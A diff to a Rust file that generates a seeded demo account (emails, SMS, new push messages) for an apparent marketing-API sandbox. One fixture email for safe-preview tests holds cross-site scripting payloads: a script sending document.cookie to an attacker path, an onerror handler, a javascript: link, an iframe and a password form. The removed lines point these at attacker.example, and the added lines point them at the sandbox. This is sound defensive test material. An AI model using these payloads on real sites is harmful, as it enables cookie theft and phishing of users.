@@ -1,7 +1,8 @@
 //! The deterministic demo account: organisation, contacts, segments, messages, fields.
 //!
 //! Everything comes from one seed through [`SeededRng`], so a test can rely on "contact 3 of seed
-//! 2026" being the same on every machine.
+//! 2026" being the same on every machine. Only the messages' image URLs differ between sandboxes:
+//! they are absolute, at the sandbox's own base URL.
 
 use super::model::*;
 use super::prng::SeededRng;
@@ -15,6 +16,7 @@ pub const FIRST_CONTACT_ID: i64 = 100_000_001;
 pub const FIRST_SEGMENT_ID: i64 = 200_001;
 pub const FIRST_EMAIL_ID: i64 = 3_000_001;
 pub const FIRST_SMS_ID: i64 = 4_000_001;
+pub const FIRST_PUSH_ID: i64 = 5_000_001;
 
 /// The mobile apps the demo account has registered for push (appId as Yespo issues them).
 pub const APPS: [(&str, &str); 2] =
@@ -280,8 +282,10 @@ const CAMPAIGNS: &[(&str, &str, &[&str])] = &[
 /// The email with hostile markup, for the safe-preview tests: it must never run in the app.
 pub const HOSTILE_EMAIL_NAME: &str = "Security test: script and onerror";
 
-/// About forty email messages with realistic HTML.
-pub fn emails() -> Vec<EmailMessage> {
+/// About forty email messages with realistic HTML. Their images are the sandbox's own
+/// (`{base_url}/img/...`, absolute, as a real email's remote images are), so the request log
+/// shows whether a preview fetched them.
+pub fn emails(base_url: &str) -> Vec<EmailMessage> {
     let mut out = Vec::new();
     let mut id = FIRST_EMAIL_ID;
     for round in 0..2 {
@@ -290,14 +294,20 @@ pub fn emails() -> Vec<EmailMessage> {
             let subject = subject.replace("{name}", "%FIRSTNAME|friend%");
             let mut translations = Vec::new();
             if i % 4 == 0 {
-                translations.push(("uk".to_string(), format!("[UA] {subject}"), email_html(&subject, i, "uk")));
+                translations.push((
+                    "uk".to_string(),
+                    format!("[UA] {subject}"),
+                    email_html(&subject, i, "uk", base_url),
+                ));
             }
             out.push(EmailMessage {
                 id,
                 name,
                 from: format!("\"Demo Store\" <{}>", EMAIL_SENDERS[i % 2]),
                 subject: subject.clone(),
-                html: email_html(&subject, i, "en"),
+                html: email_html(&subject, i, "en", base_url),
+                raw_html: None,
+                amp_html: None,
                 css: Some("body{margin:0;background:#f4f5f7}".into()),
                 tags: tags.iter().map(|t| t.to_string()).collect(),
                 language: "en".into(),
@@ -312,18 +322,25 @@ pub fn emails() -> Vec<EmailMessage> {
         name: HOSTILE_EMAIL_NAME.into(),
         from: "\"Demo Store\" <news@demo-store.example>".into(),
         subject: "This message tries to run code".into(),
-        html: concat!(
-            "<!DOCTYPE html><html><head><title>Hostile</title>",
-            "<script>window.__pwned = true; fetch('https://attacker.example/steal?c=' + document.cookie);</script>",
-            "</head><body><h1>Looks harmless</h1>",
-            "<img src=\"https://broken.example/x.png\" onerror=\"window.__pwned = true; alert('xss')\" alt=\"logo\">",
-            "<a href=\"javascript:window.__pwned=true\">Click me</a>",
-            "<iframe src=\"https://attacker.example/frame\"></iframe>",
-            "<form action=\"https://attacker.example/phish\"><input name=\"password\"></form>",
-            "<p style=\"background:url(https://tracker.example/pixel.gif)\">Tracked paragraph</p>",
-            "</body></html>"
-        )
-        .into(),
+        // Every URL in it is on the sandbox (`/attacker/...` answers 404), so whatever a preview
+        // lets through, a script's fetch, the frame, a remote image, shows in the request log.
+        html: format!(
+            concat!(
+                "<!DOCTYPE html><html><head><title>Hostile</title>",
+                "<script>window.__pwned = true; fetch('{base}/attacker/steal?c=' + document.cookie);</script>",
+                "</head><body><h1>Looks harmless</h1>",
+                "<img src=\"{base}/img/logo.png\" width=\"140\" height=\"40\" alt=\"Demo Store\">",
+                "<img src=\"{base}/img/missing.png\" onerror=\"window.__pwned = true; alert('xss')\" alt=\"logo\">",
+                "<a href=\"javascript:window.__pwned=true\">Click me</a>",
+                "<iframe src=\"{base}/attacker/frame\"></iframe>",
+                "<form action=\"{base}/attacker/phish\"><input name=\"password\"></form>",
+                "<p style=\"background:url({base}/img/pixel.gif)\">Tracked paragraph</p>",
+                "</body></html>"
+            ),
+            base = base_url
+        ),
+        raw_html: None,
+        amp_html: None,
         css: None,
         tags: vec!["security".into()],
         language: "en".into(),
@@ -333,7 +350,7 @@ pub fn emails() -> Vec<EmailMessage> {
     out
 }
 
-fn email_html(subject: &str, variant: usize, lang: &str) -> String {
+fn email_html(subject: &str, variant: usize, lang: &str, base: &str) -> String {
     let colours = ["#0b5fff", "#e4572e", "#17a398", "#6c4ab6", "#f0a202"];
     let colour = colours[variant % colours.len()];
     let cta = if lang == "uk" { "Перейти до магазину" } else { "Shop now" };
@@ -345,15 +362,16 @@ fn email_html(subject: &str, variant: usize, lang: &str) -> String {
 <table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
 <table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
 <tr><td style="padding:24px;text-align:center;background:{colour}">
-<img src="https://cdn.demo-store.example/img/logo-white.png" width="140" height="40" alt="Demo Store"></td></tr>
+<img src="{base}/img/logo.png" width="140" height="40" alt="Demo Store"></td></tr>
 <tr><td style="padding:32px 24px"><h1 style="margin:0 0 16px;font-size:24px;color:#1d2330">{subject}</h1>
 <p style="font-size:16px;line-height:24px;color:#3c4257">Hi %FIRSTNAME|there%, we picked a few things we think you will like.</p>
-<img src="https://cdn.demo-store.example/img/campaign-{variant}.jpg" width="552" alt="Campaign banner" style="display:block;width:100%;height:auto">
+<img src="{base}/img/banner.gif" width="552" alt="Campaign banner" style="display:block;width:100%;height:auto">
 <p style="text-align:center;margin:32px 0"><a href="https://demo-store.example/collection/{variant}?utm_source=yespo&amp;utm_medium=email" style="background:{colour};color:#ffffff;padding:14px 28px;border-radius:4px;text-decoration:none;font-weight:bold">{cta}</a></p>
 </td></tr>
 <tr><td style="padding:16px 24px;font-size:12px;color:#8792a2;text-align:center">
 Demo Store, 1 Market St, Kyiv. <a href="%UNSUBSCRIBELINK%" style="color:#8792a2">Unsubscribe</a></td></tr>
-</table></td></tr></table></body></html>"#
+</table></td></tr></table>
+<img src="{base}/img/pixel.gif" width="1" height="1" alt="" style="display:block"></body></html>"#
     )
 }
 
@@ -391,5 +409,122 @@ pub fn sms() -> Vec<SmsMessage> {
             language: "en".into(),
             track_urls: text.contains("https://"),
         })
+        .collect()
+}
+
+/// Six mobile push messages: with an image, a carousel, web and deep links, buttons, two
+/// languages, emoji, and one without tags. Images are the sandbox's own, like the emails'.
+pub fn mobile_pushes(base_url: &str) -> Vec<MobilePushMessage> {
+    let img = |name: &str| format!("{base_url}/img/{name}");
+    let text = |s: &str| s.to_string();
+    let tags = |list: &[&str]| list.iter().map(|t| t.to_string()).collect::<Vec<_>>();
+    let messages = vec![
+        MobilePushMessage {
+            name: text("Flash sale push"),
+            tags: tags(&["promo", "sale"]),
+            subscription_keys: vec![text("promo")],
+            content: PushContent {
+                title: text("⚡ Flash sale: 50% off"),
+                text: text("Only until midnight, %FIRSTNAME|friend%! Tap to see the deals."),
+                link: Some(text("https://demo-store.example/sale?utm_source=yespo&utm_medium=push")),
+                image_source: Some(img("promo.png")),
+                buttons: vec![
+                    PushButton {
+                        action_id: text("shop_now"),
+                        label: text("Shop now"),
+                        link: Some(text("https://demo-store.example/sale")),
+                        custom_data: None,
+                    },
+                    PushButton {
+                        action_id: text("remind_later"),
+                        label: text("Remind me later"),
+                        link: None,
+                        custom_data: Some(text(r#"{"remindInMinutes":60}"#)),
+                    },
+                ],
+                sound_enabled: true,
+                ttl_sec: Some(6 * 3600),
+                ..PushContent::default()
+            },
+            ..MobilePushMessage::default()
+        },
+        MobilePushMessage {
+            name: text("Order shipped push"),
+            tags: tags(&["transactional"]),
+            content: PushContent {
+                title: text("Your order is on its way"),
+                subtitle: Some(text("Order %ORDER%")),
+                text: text("Tap to track your parcel."),
+                link: Some(text("demostore://orders/%ORDER%/tracking")),
+                ttl_sec: Some(24 * 3600),
+                ..PushContent::default()
+            },
+            ..MobilePushMessage::default()
+        },
+        MobilePushMessage {
+            name: text("Welcome push"),
+            tags: tags(&["welcome", "trigger"]),
+            subscription_keys: vec![text("news")],
+            content: PushContent {
+                title: text("Welcome to Demo Store!"),
+                text: text("Thanks for installing the app. Here is 10% off your first order: WELCOME10"),
+                link: Some(text("demostore://home")),
+                sound_enabled: true,
+                ..PushContent::default()
+            },
+            translations: vec![(
+                text("uk"),
+                PushContent {
+                    title: text("Ласкаво просимо до Demo Store!"),
+                    text: text("Дякуємо, що встановили застосунок. Ось 10% знижки на перше замовлення: WELCOME10"),
+                    link: Some(text("demostore://home?lang=uk")),
+                    sound_enabled: true,
+                    ..PushContent::default()
+                },
+            )],
+            ..MobilePushMessage::default()
+        },
+        MobilePushMessage {
+            name: text("Back in stock push"),
+            tags: tags(&["product", "trigger"]),
+            subscription_keys: vec![text("product")],
+            content: PushContent {
+                title: text("It's back! 🎉"),
+                text: text("Your favourite sneakers 👟 are in stock again. Grab them before they're gone 🔥"),
+                link: Some(text("demostore://product/%SKU%")),
+                badge_count: Some(1),
+                sound_enabled: true,
+                ..PushContent::default()
+            },
+            ..MobilePushMessage::default()
+        },
+        MobilePushMessage {
+            name: text("Weekend picks carousel"),
+            tags: tags(&["digest", "promo"]),
+            subscription_keys: vec![text("promo")],
+            content: PushContent {
+                title: text("Weekend picks"),
+                text: text("Swipe through this weekend's favourites."),
+                link: Some(text("https://demo-store.example/weekend")),
+                images: vec![img("promo.png"), img("banner.gif")],
+                ..PushContent::default()
+            },
+            ..MobilePushMessage::default()
+        },
+        MobilePushMessage {
+            name: text("App update available"),
+            content: PushContent {
+                title: text("A new version of the app"),
+                text: text("Update to get faster checkout and order tracking."),
+                custom_data: Some(text(r#"{"minVersion":"5.0.0","store":"auto"}"#)),
+                ..PushContent::default()
+            },
+            ..MobilePushMessage::default()
+        },
+    ];
+    messages
+        .into_iter()
+        .enumerate()
+        .map(|(i, m)| MobilePushMessage { id: FIRST_PUSH_ID + i as i64, language: text("en"), ..m })
         .collect()
 }
